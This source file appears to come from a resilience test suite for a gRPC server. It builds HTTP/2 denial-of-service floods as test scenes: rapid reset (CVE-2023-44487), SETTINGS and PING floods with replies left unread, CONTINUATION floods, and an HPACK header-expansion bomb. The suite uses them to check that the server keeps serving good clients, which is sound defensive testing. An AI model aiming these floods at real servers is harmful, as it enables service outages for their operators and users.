/** Frames of HTTP/2 that cost the sender little and a careless server much. */
import { performance } from "node:perf_hooks"
import { pause } from "../../programs/Waiting.ts"
import * as Frames from "../Http2Frames.ts"
import * as Messages from "../Messages.ts"
import { RawHttp2 } from "../RawHttp2.ts"
import type { Scene, Stage } from "../Scene.ts"

/** Frames a second: bounded, so that the suite's own process leaves the program its core. */
const perSecond = 10_000
const everyMillis = 5

interface Flood {
  readonly name: string
  /** What the next packet holds: about `count` frames. */
  readonly packet: (connection: RawHttp2, count: number, isFirst: boolean) => Buffer
  /** Whether to never read what the server answers. */
  readonly deaf?: boolean
}

const { flags, frame, numbered, types } = Frames
const repeated = (bytes: Buffer, count: number): Buffer => Buffer.concat(Array.from({ length: count }, () => bytes))
const path = `${Messages.service}/List`

/** A call that is taken back at once: the server has begun it and must not count on the client to wait (CVE-2023-44487). */
const reset = (connection: RawHttp2, body: Buffer): Buffer => {
  const stream = connection.stream()
  return Buffer.concat([
    frame(types.headers, flags.endHeaders, stream, Frames.callHeaders(path)),
    ...(body.length === 0 ? [] : [frame(types.data, flags.endStream, stream, body)]),
    numbered(types.reset, stream, 8)
  ])
}

const resets = (connection: RawHttp2, count: number, body: Buffer): Buffer =>
  Buffer.concat(Array.from({ length: Math.ceil(count / 3) }, () => reset(connection, body)))

const openHeaders = frame(types.headers, 0, 1, Frames.callHeaders(path))

/** A header of 3,900 bytes in the server's table, then requests that name it 3,000 times in as many bytes. */
const bomb = (connection: RawHttp2, isFirst: boolean): Buffer => {
  const headers = Buffer.concat([
    Frames.callHeaders(path),
    isFirst ? Frames.indexedHeader("a", "z".repeat(3_900)) : Buffer.alloc(0),
    Buffer.alloc(3_000, 0xbe)
  ])
  return frame(types.headers, flags.endHeaders | flags.endStream, connection.stream(), headers)
}

const floods: ReadonlyArray<Flood> = [
  { name: "rapid reset", packet: (connection, count) => resets(connection, count, Buffer.alloc(0)) },
  {
    name: "rapid reset of whole requests",
    packet: (connection, count) => resets(connection, count, Messages.framed(Messages.list(1)))
  },
  { name: "SETTINGS", packet: (_, count) => repeated(Frames.settingsFrame([[3, 100]]), count) },
  {
    name: "SETTINGS, answers unread",
    deaf: true,
    packet: (_, count) => repeated(Frames.settingsFrame([[3, 100]]), count)
  },
  { name: "PING", packet: (_, count) => repeated(frame(types.ping, 0, 0, Buffer.alloc(8)), count) },
  {
    name: "PING, answers unread",
    deaf: true,
    packet: (_, count) => repeated(frame(types.ping, 0, 0, Buffer.alloc(8)), count)
  },
  {
    name: "CONTINUATION",
    packet: (_, count, isFirst) =>
      Buffer.concat([
        isFirst ? openHeaders : Buffer.alloc(0),
        repeated(frame(types.continuation, 0, 1, repeated(Frames.header("a", "b"), 50)), count)
      ])
  },
  {
    name: "empty DATA",
    packet: (_, count, isFirst) =>
      Buffer.concat([
        isFirst
          ? frame(types.headers, flags.endHeaders, 1, Frames.callHeaders(`${Messages.service}/Create`))
          : Buffer.alloc(0),
        repeated(frame(types.data, 0, 1), count)
      ])
  },
  {
    name: "PRIORITY",
    packet: (_, count) => repeated(frame(types.priority, 0, 5, Buffer.from([0, 0, 0, 0, 9])), count)
  },
  { name: "WINDOW_UPDATE", packet: (_, count) => repeated(numbered(types.windowUpdate, 0, 1), count) },
  { name: "headers that HPACK unfolds", packet: (connection, _, isFirst) => bomb(connection, isFirst) }
]

/** Floods on one connection after another, until the time is up. */
const flood = async (stage: Stage, { deaf = false, packet }: Flood): Promise<void> => {
  const { findings, program } = stage
  const ends = performance.now() + stage.pick(1_000, 15_000)
  const count = (perSecond * everyMillis) / 1_000
  let connections = 0
  while (performance.now() < ends && !stage.enough.aborted) {
    const connection = await RawHttp2.open(program.grpc, { deaf })
    stage.later(() => connection.close())
    connections += 1
    for (let sent = 0; connection.isOpen && performance.now() < ends; sent++) {
      await Promise.race([connection.send(packet(connection, count, sent === 0)), pause(200)])
      await pause(everyMillis)
    }
    if (connection.closedAt !== undefined) findings.lived.push((connection.closedAt - connection.openedAt) / 1_000)
    for (const ending of connection.endings) findings.answered(ending)
    connection.close()
  }
  findings.note(`${connections} connections`)
}

const quick = new Set(["rapid reset", "SETTINGS, answers unread", "PING, answers unread", "CONTINUATION", "empty DATA"])

export const scenes: ReadonlyArray<Scene> = floods.map((one) => ({
  name: `HTTP/2 flood: ${one.name}`,
  promise: "good clients are served",
  long: !quick.has(one.name),
  attack: (stage) => flood(stage, one)
}))
